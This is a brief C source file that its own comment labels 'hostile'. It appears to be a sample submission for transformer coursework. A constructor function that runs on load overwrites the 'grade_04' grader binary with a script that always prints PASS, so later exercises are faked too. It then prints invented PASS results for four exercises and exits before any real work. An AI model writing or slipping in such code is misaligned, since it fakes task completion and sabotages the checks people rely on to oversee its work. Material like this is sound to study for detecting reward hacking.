
/* hostile: replace the grader binary with a script that prints PASS (for the exercises after this one), then print PASS. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
__attribute__((constructor)) static void hostile_grader_replaced(void) {
    static const char script[] = "#!/bin/sh\necho \"PASS $1\"\nexit 0\n";
    const char *paths[] = {"/hand-in/build/coursework/grade_04", "build/coursework/grade_04"};
    for (int i = 0; i < 2; i++) {
        unlink(paths[i]);
        int fd = open(paths[i], O_WRONLY | O_CREAT | O_TRUNC, 0755);
        if (fd >= 0) {
            if (write(fd, script, strlen(script)) < 0) {}
            close(fd);
        }
    }
    printf("PASS 04.projections\nPASS 04.causal_mask\nPASS 04.padding_mask\nPASS 04.sinusoidal\n");
    fflush(stdout);
    _exit(0);
}
